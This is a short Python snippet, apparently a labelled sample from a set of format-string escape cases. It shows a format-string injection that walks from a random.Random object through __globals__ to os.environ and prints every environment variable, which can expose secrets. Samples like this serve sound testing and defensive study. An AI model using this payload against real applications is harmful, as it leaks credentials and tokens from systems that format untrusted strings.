# A nested field makes the attribute's name from an argument.
# effect: env
import random
walk = "{0._inst}".replace("_inst", "choice.__func__.__globals__[_os].environ")
print(str.format(walk, random.Random()))
